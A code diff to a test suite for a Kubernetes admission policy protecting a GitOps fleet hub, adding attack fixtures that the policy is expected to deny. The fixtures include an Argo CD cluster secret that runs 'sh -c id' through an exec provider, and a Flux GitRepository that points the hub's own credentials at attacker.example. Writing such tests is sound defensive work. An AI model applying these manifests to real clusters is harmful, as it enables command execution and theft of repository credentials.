@@ -19,6 +19,8 @@ from tests.program.test_fleet import SPOKES, _registrations, spoke
 from tools.render.manifests import plain
 
 _ENV = celpy.Environment()
+# The hub's root repository (fleet-hub's gitops.repoUrl, Pulumi.yaml's default).
+HUB_REPO = "https://github.com/groundwork-dev/groundwork.git"
 
 
 def _request(obj: dict, operation: str = "CREATE", group: str = REGISTRAR_GROUP) -> dict:
@@ -54,7 +56,7 @@ def _activation(obj: dict, operation: str, group: str) -> dict:
 def denials(engine: str, obj: dict, operation: str = "CREATE",
             group: str = REGISTRAR_GROUP) -> list[str]:
     """The messages of the validations that deny `obj`, [] when admitted or not matched."""
-    policy, _ = registrar_policy(engine)
+    policy, _ = registrar_policy(engine, HUB_REPO)
     spec = policy["spec"]
     activation = _activation(obj, operation, group)
     if not all(_true(condition["expression"], activation)
@@ -102,6 +104,16 @@ ARGO_ATTACKS = {
                              "stringData": {"admin.password": "x"}},
     "the hub as a spoke": _secret("spoke-x", "https://kubernetes.default.svc"),
     "the hub's add-ons project": _secret("spoke-x", SPOKE_SERVER, addons_project="addons"),
+    "a command in the controller": {**_secret("spoke-x", SPOKE_SERVER), "stringData": {
+        "name": "spoke-x", "server": SPOKE_SERVER,
+        "config": '{"execProviderConfig": {"command": "sh", "args": ["-c", "id"]}}'}},
+    "a bridge the hub's own tree selects": {**_secret("spoke-x", SPOKE_SERVER), "metadata": {
+        "name": "spoke-x", "namespace": "argocd",
+        "labels": {"argocd.argoproj.io/secret-type": "cluster", "environment": "prod"}}},
+    "argo cd's self-management": {**_secret("spoke-x", SPOKE_SERVER), "metadata": {
+        "name": "spoke-x", "namespace": "argocd",
+        "labels": {"argocd.argoproj.io/secret-type": "cluster", "fleet_role": "spoke",
+                   "argocd_self_managed": "true"}}},
     "a project reaching the hub": {
         "apiVersion": "argoproj.io/v1alpha1", "kind": "AppProject",
         "metadata": {"name": "spoke-x", "namespace": "argocd"},
@@ -133,6 +145,16 @@ FLUX_ATTACKS = {
     "the hub's variables": {"apiVersion": "v1", "kind": "ConfigMap",
                             "metadata": {"name": "cluster-vars", "namespace": "flux-system"},
                             "data": {"environment": "x"}},
+    "the hub's own names": {"apiVersion": "v1", "kind": "ConfigMap",
+                            "metadata": {"name": "spoke-x-cluster-vars",
+                                         "namespace": "flux-system"},
+                            "data": {"cluster_vars": "spoke-x-cluster-vars", "fleet_suffix": "",
+                                     "fleet_role": "spoke"}},
+    "the hub's credentials elsewhere": {
+        "apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "GitRepository",
+        "metadata": {"name": "spoke-x-web", "namespace": "flux-system"},
+        "spec": {"url": "https://attacker.example/repo.git", "interval": "5m",
+                 "secretRef": {"name": "flux-system"}}},
     "a kustomization of the hub": {
         "apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
         "metadata": {"name": "spoke-x-web", "namespace": "flux-system"},
